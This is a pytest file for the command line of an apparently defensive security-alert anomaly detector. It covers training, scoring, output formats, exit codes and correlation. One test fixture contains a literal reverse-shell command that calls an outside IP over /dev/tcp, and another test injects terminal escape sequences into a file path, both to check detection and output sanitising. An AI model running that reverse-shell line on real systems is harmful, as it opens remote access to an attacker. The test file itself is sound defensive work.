"""The command line: train/score end to end, output formats, exit codes for every failure."""
from __future__ import annotations

import json
import subprocess
import sys

import alert_factory as F
import pytest

from mimizuku.cli import EXIT_DATA, EXIT_INPUT, EXIT_MODEL, EXIT_OK, EXIT_USAGE, main

ATK = F.attacks()
ATTACKS = [a for kind in ATK.values() for a in kind]


def _jsonl(path, alerts):
    path.write_text("".join(json.dumps(a) + "\n" for a in alerts))
    return str(path)


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    d = tmp_path_factory.mktemp("cli")
    train = _jsonl(d / "train.json", F.normal_fleet(days=4))
    test = _jsonl(d / "test.json", F.normal_fleet(days=1, seed=5) + ATTACKS)
    assert main(["train", "--input", train, "--model-dir", str(d / "model")]) == EXIT_OK
    return d, test


def test_train_prints_a_json_summary(tmp_path, capsys):
    train = _jsonl(tmp_path / "t.json", F.normal_fleet(days=2))
    assert main(["train", "-i", train, "-m", str(tmp_path / "m")]) == EXIT_OK
    summary = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert summary["alerts"] == len(F.normal_fleet(days=2))
    assert set(summary["detectors"]) == {"files", "commands", "context"}


def test_score_jsonl_all_has_required_fields(trained, capsys):
    d, test = trained
    assert main(["score", "-m", str(d / "model"), "-i", test, "--all", "--format", "jsonl"]) == EXIT_OK
    lines = capsys.readouterr().out.strip().splitlines()
    recs = [json.loads(x) for x in lines]
    assert len(recs) == len(F.normal_fleet(days=1, seed=5)) + len(ATTACKS)
    for r in recs:
        assert {"id", "detector", "score", "anomaly", "severity", "reasons"} <= set(r)
    flagged = {r["id"] for r in recs if r["anomaly"]}
    assert {a["id"] for a in ATTACKS} <= flagged


def test_score_default_prints_only_anomalies_as_a_table(trained, capsys):
    d, test = trained
    assert main(["score", "-m", str(d / "model"), "-i", test]) == EXIT_OK
    out = capsys.readouterr().out.strip().splitlines()
    assert out[0].startswith("timestamp")
    body = "\n".join(out[1:])
    assert "authorized_keys" in body and "/dev/tcp" in body
    assert len(out) - 1 < 40  # anomalies only, not the ~300 routine alerts


def test_table_output_neutralises_terminal_escapes(trained, tmp_path, capsys):
    d, _ = trained
    evil = F.fim(F.BASE, "/tmp/\x1b[2J\x1b]0;pwned\x07x\nFAKE ROW", user="www-data", process="sh")
    src = _jsonl(tmp_path / "evil.json", [evil])
    assert main(["score", "-m", str(d / "model"), "-i", src]) == EXIT_OK
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert len(out.strip().splitlines()) == 2  # header + one row: the newline did not split it
    assert "\\x1b" in out


@pytest.mark.parametrize("args,code", [
    (["train", "-i", "/nonexistent/alerts.json", "-m", "{tmp}/m"], EXIT_INPUT),
    (["score", "-m", "{tmp}/no-model", "-i", "{test}"], EXIT_MODEL),
    (["score", "-m", "{model}", "-i", "/nonexistent.json"], EXIT_INPUT),
    (["score", "-m", "{model}", "-i", "{empty}"], EXIT_INPUT),
    (["train", "-i", "{empty}", "-m", "{tmp}/m"], EXIT_INPUT),
    (["train", "-i", "{garbage}", "-m", "{tmp}/m"], EXIT_INPUT),
    (["train", "-i", "{one}", "-m", "{tmp}/m", "--detectors", "files"], EXIT_DATA),
    (["train", "-i", "{test}", "-m", "{tmp}/m", "--detectors", "bogus"], EXIT_USAGE),
    (["score", "--bogus-flag"], EXIT_USAGE),
    (["frobnicate"], EXIT_USAGE),
])
def test_failures_have_defined_exit_codes_and_clear_messages(trained, tmp_path, capsys, args, code):
    d, test = trained
    (tmp_path / "empty.json").write_text("")
    (tmp_path / "garbage.json").write_bytes(b"not json\n{\"half\": \n\xff\xfe\x00\n[1,2]\n")
    _jsonl(tmp_path / "one.json", [F.fim(F.BASE, "/etc/hosts")])
    subst = {"tmp": str(tmp_path), "test": test, "model": str(d / "model"), "empty": str(tmp_path / "empty.json"),
             "garbage": str(tmp_path / "garbage.json"), "one": str(tmp_path / "one.json")}
    argv = [a.format(**subst) for a in args]
    assert main(argv) == code
    err = capsys.readouterr().err
    assert err.strip(), "a failure must say what went wrong"
    assert "Traceback" not in err


def test_tampered_model_exits_with_model_error(trained, tmp_path, capsys):
    import shutil

    d, test = trained
    shutil.copytree(d / "model", tmp_path / "m")
    f = tmp_path / "m" / "commands.npz"
    f.write_bytes(f.read_bytes()[:-10] + b"0123456789")
    assert main(["score", "-m", str(tmp_path / "m"), "-i", test]) == EXIT_MODEL
    assert "checksum" in capsys.readouterr().err.lower()


def test_console_script_and_module_entry_points(trained):
    d, test = trained
    r = subprocess.run([sys.executable, "-m", "mimizuku", "score", "-m", str(d / "model"), "-i", test,
                        "--format", "jsonl"], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    assert all(json.loads(x)["anomaly"] for x in r.stdout.strip().splitlines())
    assert "anomalies" in r.stderr


def test_score_correlate_lifts_related_alerts(trained, tmp_path, capsys):
    d, _ = trained
    t = F.BASE + __import__("datetime").timedelta(days=6, hours=14)
    m = __import__("datetime").timedelta(seconds=2)
    shell = F.command(t + m, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], user="deploy")
    shell["data"]["audit"].update({"session": "812", "pid": "4242", "ppid": "4200"})
    shell["full_log"] += ' AUID="deploy"'
    alerts = [F.event(t, "5501", desc="PAM: Login session opened.", groups=["pam", "syslog", "authentication_success"],
                      user="deploy"), shell]
    src = _jsonl(tmp_path / "session.json", alerts)
    argv = ["score", "-m", str(d / "model"), "-i", src, "--all", "--format", "jsonl"]
    assert main(argv) == EXIT_OK
    plain = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
    assert main(argv + ["--correlate"]) == EXIT_OK
    corr = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
    assert main(argv + ["--correlate", "--flag-related"]) == EXIT_OK
    flagged = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
    assert not plain[0]["anomaly"] and plain[1]["anomaly"] and plain[1]["severity"] in ("medium", "high", "critical")
    assert corr[1]["score"] == plain[1]["score"] and flagged[1]["score"] == plain[1]["score"]
    # the login line of the shell's session: ranked under its anomaly, not flagged on its own
    assert corr[0]["related_to"] == alerts[1]["id"] and not corr[0]["anomaly"]
    assert plain[0]["score"] < corr[0]["score"] < corr[0]["threshold"]
    # --flag-related: flagged, and the reason names the tie and the seed
    assert flagged[0]["anomaly"] and flagged[0]["related_to"] == alerts[1]["id"]
    assert flagged[0]["reasons"][0].startswith("the login of the session as anomaly " + alerts[1]["id"])


def test_generate_passes_its_options_to_the_generator(tmp_path):
    assert main(["generate", "--out", str(tmp_path / "fleet"), "--days", "2", "--scale", "0.02", "-q"]) == EXIT_OK
    days = list((tmp_path / "fleet" / "logs" / "alerts").rglob("ossec-alerts-*.json*"))
    assert days, "an archive tree was written"
    assert main(["generate", "--bogus"]) == EXIT_USAGE


def test_every_option_of_every_command_has_help():
    """`mimizuku COMMAND --help` explains each option (the settings tables and the CLI alike)."""
    import argparse

    from mimizuku.cli import build_parser

    missing = []
    top = build_parser()
    subs = [a for a in top._actions if isinstance(a, argparse._SubParsersAction)][0]
    for name, parser in subs.choices.items():
        if name == "generate":  # its own parser: `mimizuku generate --help`, checked below
            continue
        for action in parser._actions:
            if action.option_strings and not action.help and "-h" not in action.option_strings:
                missing.append(f"mimizuku {name} {'/'.join(action.option_strings)}")
    from mimizuku.tools import synth

    gen = synth.build_parser() if hasattr(synth, "build_parser") else None
    for action in getattr(gen, "_actions", []):
        if action.option_strings and not action.help and "-h" not in action.option_strings:
            missing.append(f"mimizuku generate {'/'.join(action.option_strings)}")
    assert not missing, "options without help: " + ", ".join(missing)


@pytest.mark.parametrize("fmt", ["table", "jsonl"])
def test_an_input_error_prints_nothing_on_stdout(trained, tmp_path, capfd, fmt):
    """issue 17, item 13: the table header was printed before the input error, and on a terminal
    the two ran together; now stdout is empty and the error is on stderr alone. An existing
    --output file is not truncated by a run that scored nothing."""
    d, _ = trained
    capfd.readouterr()
    code = main(["score", "-m", str(d / "model"), "-i", str(tmp_path / "missing.json"), "--format", fmt])
    out, err = capfd.readouterr()
    assert code == EXIT_INPUT and out == ""
    assert err.startswith("mimizuku score: error:") and "missing.json" in err
    empty = tmp_path / "empty.json"
    empty.write_text("")
    assert main(["score", "-m", str(d / "model"), "-i", str(empty), "--format", fmt]) == EXIT_INPUT
    out, err = capfd.readouterr()
    assert out == "" and "no alerts in the input" in err
    kept = tmp_path / "kept.txt"
    kept.write_text("yesterday's table\n")
    assert main(["score", "-m", str(d / "model"), "-i", str(empty), "-o", str(kept)]) == EXIT_INPUT
    assert kept.read_text() == "yesterday's table\n"


def test_the_header_comes_with_the_rows_and_without_them(trained, tmp_path, capsys):
    d, test = trained
    assert main(["score", "-m", str(d / "model"), "-i", test, "-o", str(tmp_path / "t.txt")]) == EXIT_OK
    lines = (tmp_path / "t.txt").read_text().splitlines()
    assert lines[0].startswith("timestamp") and len(lines) > 1
    quiet = _jsonl(tmp_path / "quiet.json", F.normal_fleet(days=1, seed=5)[:3])
    assert main(["score", "-m", str(d / "model"), "-i", quiet]) == EXIT_OK
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 1 and out[0].startswith("timestamp")  # no anomaly: the header alone
